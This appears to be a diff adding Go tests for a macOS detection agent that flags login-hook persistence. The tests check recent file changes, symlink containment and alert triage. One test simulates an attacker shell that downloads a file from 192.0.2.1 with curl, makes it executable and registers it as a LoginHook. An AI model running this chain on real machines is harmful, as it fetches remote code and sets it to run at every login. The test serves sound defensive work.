@@ -1,0 +1,107 @@
+package agent
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"hooksnare/agent/config"
+	"hooksnare/collector/eslogger/synthetic"
+	"hooksnare/pkg/alert"
+)
+
+// aged writes a file that was last changed so long before a time.
+func aged(t *testing.T, path string, at time.Time, before time.Duration) {
+	t.Helper()
+	must(t, os.MkdirAll(filepath.Dir(path), 0o755))
+	must(t, os.WriteFile(path, []byte("x"), 0o600))
+	must(t, os.Chtimes(path, at, at.Add(-before)))
+}
+
+func names(list []alert.Lately) string {
+	var out []string
+	for _, l := range list {
+		out = append(out, l.Name)
+	}
+	return strings.Join(out, " ")
+}
+
+// TestChangedLately looks around a hook on a disk.
+func TestChangedLately(t *testing.T) {
+	at := time.Now()
+	for _, base := range []string{"private/var", "var"} { // as on a Mac, and as disks are made up
+		root := t.TempDir()
+		receipts, preferences := filepath.Join(root, base, "db/receipts"), filepath.Join(root, base, "root/Library/Preferences")
+		aged(t, filepath.Join(receipts, "com.example.new.plist"), at, time.Hour)
+		aged(t, filepath.Join(receipts, "com.example.newer.plist"), at, time.Minute)
+		aged(t, filepath.Join(receipts, "com.example.newer.bom"), at, time.Minute)
+		aged(t, filepath.Join(receipts, "com.example.old.plist"), at, 48*time.Hour)
+		aged(t, filepath.Join(preferences, "com.apple.loginwindow.plist"), at, 0)
+		aged(t, filepath.Join(preferences, "com.example.plist"), at, time.Hour)
+		aged(t, filepath.Join(preferences, "later.plist"), at, -time.Hour)
+		must(t, os.Mkdir(filepath.Join(preferences, "ByHost"), 0o700))
+		s := newSurroundings(root, nil)
+		if got, want := names(s.changed(receiptsPath, ".plist", at)), "com.example.newer com.example.new"; got != want {
+			t.Errorf("%s: packages: got %q, want %q", base, got, want)
+		}
+		if got, want := names(s.changed("/private/var/root/Library/Preferences", "", at)), "com.apple.loginwindow.plist com.example.plist"; got != want {
+			t.Errorf("%s: preferences: got %q, want %q", base, got, want)
+		}
+	}
+}
+
+// TestChangedElsewhere holds that no link leads out of the root, and that what is no folder
+// is none.
+func TestChangedElsewhere(t *testing.T) {
+	at, root, outside := time.Now(), t.TempDir(), t.TempDir()
+	aged(t, filepath.Join(outside, "secret"), at, 0)
+	must(t, os.Symlink(outside, filepath.Join(root, "absolute")))
+	must(t, os.Symlink("../"+filepath.Base(outside), filepath.Join(root, "relative")))
+	aged(t, filepath.Join(root, "file"), at, 0)
+	s := newSurroundings(root, nil)
+	for _, folder := range []string{"/absolute", "/relative", "/../" + filepath.Base(outside), "/file", "/absent"} {
+		if got := s.changed(folder, "", at); got != nil {
+			t.Errorf("%s: got %v, want nothing", folder, got)
+		}
+	}
+	if len(s.asked) != 0 {
+		t.Errorf("%d looks are still under way", len(s.asked))
+	}
+}
+
+// TestTriage has a hook set from a shell: what else was run from it, and what is known of
+// the program.
+func TestTriage(t *testing.T) {
+	var host *synthetic.Host
+	f := newFeed(t, func(o *PipelineOptions) {
+		x := config.Exception{ID: "good", Require: config.Require{SHA256: []string{"AB12"}}}
+		o.Watching = &Watching{
+			Window: time.Minute, Watched: func(string) bool { return false }, Wake: func() {},
+			Look: func(value string) *alert.Program {
+				return &alert.Program{Path: value, Exists: true, SHA256: "ab12", Modified: alert.At(host.Now().Add(-time.Hour))}
+			},
+			Around: newSurroundings(t.TempDir(), []config.Exception{x}),
+		}
+	})
+	host = f.Host
+	f.Daemon("com.example.other", synthetic.AsUser, synthetic.Spec{Path: "/usr/bin/true", Args: []string{"true", "elsewhere"}})
+	shell := f.Shell()
+	f.Run(shell, synthetic.Spec{Path: "/usr/bin/curl", Args: []string{"curl", "-o", "/tmp/x", "http://192.0.2.1/x"}})
+	f.Run(shell, synthetic.Spec{Path: "/bin/chmod", Args: []string{"chmod", "+x", "/tmp/x"}})
+	f.Run(shell, synthetic.Spec{Path: "/usr/bin/defaults", Args: []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/x"}})
+	a := f.last()
+	got := a.Hooksnare.Triage
+	if got == nil || got.KnownGood != "good" || got.ProgramAge == nil || *got.ProgramAge < 3500 || *got.ProgramAge > 3700 {
+		t.Fatalf("got %+v, want an hour's age and the exception good", got)
+	}
+	var tree []string
+	for _, c := range got.Tree {
+		tree = append(tree, c.CommandLine)
+	}
+	all := strings.Join(tree, "; ")
+	if !strings.Contains(all, "curl -o /tmp/x http://192.0.2.1/x; chmod +x /tmp/x") || strings.Contains(all, "elsewhere") || strings.Contains(all, "LoginHook") {
+		t.Errorf("the same tree: got %q, want curl and chmod, and nothing of another job", all)
+	}
+}
